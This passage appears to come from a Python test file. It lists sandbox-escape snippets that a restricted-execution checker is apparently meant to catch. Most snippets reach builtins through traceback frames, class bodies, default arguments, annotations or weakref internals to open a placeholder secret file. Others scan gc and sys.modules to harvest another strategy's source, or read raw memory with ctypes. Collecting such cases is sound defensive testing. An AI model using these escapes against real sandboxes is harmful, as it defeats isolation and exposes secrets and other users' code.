        "from typing import Protocol, runtime_checkable\n@runtime_checkable\nclass P(Protocol):\n    __match_args__ = ('__self__',)\n    def __call__(self): ...\ndef attack():\n    match len:\n        case P(module):\n            return module.open('@SECRET_FILE@').read()\n",
        bare=False,
    ),
    _walks(
        "a name rebound by a class body",
        "def attack():\n    class A:\n        locals()['__x'] = __builtins__\n    return A.__dict__['__x']['open']('@SECRET_FILE@').read() if isinstance(A.__dict__['__x'], dict) else vars(A)['__x'].open('@SECRET_FILE@').read()\n",
    ),
    _walks("__annotations__", "x: [__import__('os')] = 1\ndef attack():\n    return use(__annotations__['x'][0])\n"),
    _walks(
        "a decorator that gets the class",
        "def d(c):\n    return c.__base__.__subclasses__()\n@d\nclass A:\n    pass\ndef attack():\n    return A and @PROOF@\n",
        "proof",
    ),
    _walks("a default argument", "def attack(o=__import__('os')):\n    return use(o)\n"),
    _walks(
        "the walrus in a comprehension", "def attack():\n    [o := __import__('os') for _ in (1,)]\n    return use(o)\n"
    ),
    _walks(
        "a generator's throw gives frames",
        "def attack():\n    def g():\n        try:\n            yield\n        except ValueError as e:\n            yield e.__traceback__\n    k = g()\n    next(k)\n    return k.throw(ValueError()).tb_frame.f_builtins['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "an exception's context",
        "def attack():\n    try:\n        try:\n            1 / 0\n        except Exception:\n            raise ValueError\n    except Exception as e:\n        return e.__context__.__traceback__.tb_frame.f_builtins['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "an import error's name and path",
        "def attack():\n    try:\n        import nothing_of_the_kind\n    except ImportError as e:\n        return e.__traceback__.tb_next and e.__traceback__.tb_next.tb_frame.f_builtins['open']('@SECRET_FILE@').read()\n",
        bare=False,
    ),
    _walks(
        "weak references to a class",
        "import weakref\ndef attack():\n    return weakref.WeakSet.__init__.__builtins__['open']('@SECRET_FILE@').read()\n",
    ),
    _walks(
        "a memoryview over a number",
        "import ctypes\ndef attack():\n    return bytes((ctypes.c_char * 8).from_address(id(use))) and @PROOF@\n",
        "proof",
    ),
    _walks(
        "another strategy's source",
        "import gc\ndef attack():\n    return [o for o in gc.get_objects() if isinstance(o, (str, dict)) and 's3' in str(o)[:5000]][:20]\n",
        bare=False,
    ),
    _walks(
        "every text that the process holds",
        "import gc, sys\ndef attack():\n    found = []\n    for module in list(sys.modules.values()):\n        for value in list(vars(module).values()):\n            if isinstance(value, str) and 's3' in value:\n                found.append(value[:200])\n    return found\n",
        bare=False,
    ),
)
